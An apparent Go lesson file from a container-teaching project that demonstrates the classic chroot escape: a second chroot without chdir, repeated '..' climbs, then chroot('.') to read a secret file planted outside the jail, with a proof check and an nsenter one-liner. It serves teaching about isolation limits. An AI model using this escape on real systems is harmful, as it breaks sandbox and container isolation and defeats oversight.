//go:build linux

package main

import (
	"crypto/rand"
	"errors"
	"fmt"
	"os"

	"golang.org/x/sys/unix"

	"containerkit/02-namespaces/namespace"
	"containerkit/03-rootfs/rootfs"
	"containerkit/lessons/kit/narrate"
)

// walkOut is the attack: as old as chroot, and told in its man page. The kernel stops ".." at the root directory of
// the process. A second chroot, without the chdir that belongs to it, moves the root *below* the working directory;
// from there ".." never meets the root again, and ends only at the top of everything.
func walkOut() error {
	const hole = "containerkit-hole"
	if err := os.Mkdir(hole, 0o755); err != nil && !errors.Is(err, os.ErrExist) {
		return err
	}
	if err := unix.Chroot(hole); err != nil {
		return fmt.Errorf("chroot: %w", err)
	}
	return climb()
}

// climb goes up as far as it gets, and makes that its root.
func climb() error {
	for range 64 {
		if err := unix.Chdir(".."); err != nil {
			return fmt.Errorf("chdir: %w", err)
		}
	}
	return unix.Chroot(".")
}

type escapeAsk struct {
	Root, Marker string
	Hole         bool // make the hole; without it, only ".." is tried
}

type escapeAnswer struct{ Before, After string }

var escaping = answering("escaping", func(q escapeAsk) (a escapeAnswer, err error) {
	if err := rootfs.Chroot(q.Root); err != nil {
		return a, err
	}
	a.Before = look(q.Marker)
	out := climb
	if q.Hole {
		out = walkOut
	}
	if err := out(); err != nil {
		return a, err
	}
	a.After = look(q.Marker)
	return a, nil
})

// escape: root walks out of a chroot.
func escape(n *narrate.Narrator) error {
	n.Question("What does it take to get out of a chroot?")
	dir, done, err := place(n)
	if err != nil {
		return err
	}
	defer done()
	secret := rand.Text()
	if err := populate(dir.Path, map[string]string{"secret": secret, "root/": ""}); err != nil {
		return err
	}
	ask := escapeAsk{dir.Join("root"), dir.Join("secret"), false}
	var only escapeAnswer
	if err := inside(escaping, namespace.Mount, ask, &only); err != nil {
		return err
	}
	n.OldBefore("a file lies outside the chroot; by its path it is not found, and 64 times \"..\" lead nowhere, for the kernel stops at the root",
		narrate.Data{"by its path": only.Before, "after ../../..": only.After})
	n.Do(narrate.Call{
		Text:   "inside, chroot again into a directory further down, and stay outside of it; then go up",
		Go:     "walkOut()",
		OldSys: `mkdir("hole"), chroot("hole"), chdir("..") …, chroot(".")`,
		Man:    `chroot(2), "this call does not change the current working directory"`,
		At:     walkOut,
	})
	ask.Hole = !n.Without
	p, err := start(escaping, namespace.Mount, ask)
	if err != nil {
		return err
	}
	defer p.Close()
	var a escapeAnswer
	if err := p.Receive(&a); err != nil {
		return err
	}
	link, err := os.Readlink(fmt.Sprintf("/proc/%d/root", p.Process.Pid))
	if err != nil {
		return err
	}
	n.OldEvidence("/proc/PID/root of the process, which is still running", link)
	n.OldEvidence("what it read from "+dir.Join("secret"), a.After)
	n.OldProof("root walks out of the chroot and reads a file outside", a.After == secret && link == "/", a.After, only.After)
	n.Note("it takes root (CAP_SYS_CHROOT), but root is who most containers run as; and no mount, no /proc and no bug is needed")
	n.Note("the command nsenter makes the same mistake on purpose: it sets the root, and leaves the working directory outside")
	n.ByHand("unshare --user --map-root-user nsenter --root=/usr --wd=/ /bin/ls -d etc home")
	return nil
}
